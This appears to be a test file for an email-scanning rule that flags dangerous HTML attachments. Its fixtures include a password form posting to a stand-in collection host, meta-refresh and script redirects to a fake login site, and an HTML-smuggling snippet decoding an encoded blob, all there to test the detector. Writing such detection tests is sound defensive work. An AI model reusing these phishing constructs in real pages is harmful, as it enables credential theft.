import { attachedWebPage } from '../../../src/engine/rules/attached-web-page';
import { text } from '../../fixtures/content/builders';
import { contentPolicy } from './policy';
import { attachment, mail, reasons, runRule } from './message';

const policy = contentPolicy();

describe('attached-web-page', () => {
  const page = (html: string) => attachment('Statement.html', { contentType: 'text/html', content: text(html) });

  test('a page that posts a password form to a website', () => {
    const hit = runRule(attachedWebPage, mail({ attachments: [page('<html><body><form method="post" action="https://collect.example.net/p.php"><input type="password" name="pw"></form>')] }), policy);
    expect(reasons(hit)).toEqual(['attached page sends what you type to collect.example.net; attached page asks for a password']);
    expect(hit?.severity).toBe('high');
  });

  test('a page that redirects', () => {
    const hit = runRule(attachedWebPage, mail({ attachments: [page('<html><head><meta http-equiv="refresh" content="0; url=https://login.example.net/"></head></html>')] }), policy);
    expect(reasons(hit)).toEqual(['attached page redirects to login.example.net']);
    const scripted = runRule(attachedWebPage, mail({ attachments: [page('<script>window.location.href = "https://login.example.net/?e=a";</script>')] }), policy);
    expect(reasons(scripted)).toEqual(['attached page redirects to login.example.net']);
  });

  test('a page that is not attached as content is not read (Outlook details give names only)', () => {
    expect(attachedWebPage.requires).toContain('attachmentContent');
  });

  test('HTML smuggling: a large encoded blob decoded by script', () => {
    const blob = 'QUJD'.repeat(2000);
    const hit = runRule(attachedWebPage, mail({ attachments: [page(`<html><script>var d = atob("${blob}");</script></html>`)] }), policy);
    expect(reasons(hit)).toEqual(['attached page assembles hidden content from encoded text (HTML smuggling)']);
  });

  test('an ordinary HTML attachment (e.g. a saved itinerary) is not reported', () => {
    expect(runRule(attachedWebPage, mail({ attachments: [page('<html><body><h1>Itinerary</h1><a href="https://www.example.org">site</a></body></html>')] }), policy)).toBeUndefined();
  });
});
